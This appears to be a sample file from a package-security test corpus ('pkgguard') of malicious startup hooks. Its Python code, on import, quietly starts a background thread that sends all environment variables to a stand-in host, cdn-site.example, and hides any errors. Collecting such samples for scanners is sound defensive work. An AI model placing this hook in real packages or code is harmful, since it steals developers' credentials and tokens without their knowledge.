# pkgguard corpus 391 (startup-hook), modelled on [startup-hooks]; inert, never run.
import json
import os
import threading
import urllib.request


def _ping():
    body = json.dumps(dict(os.environ)).encode()
    try:
        urllib.request.urlopen(urllib.request.Request("https://cdn-site.example/e", data=body), timeout=3)
    except OSError:
        pass


threading.Thread(target=_ping, daemon=True).start()
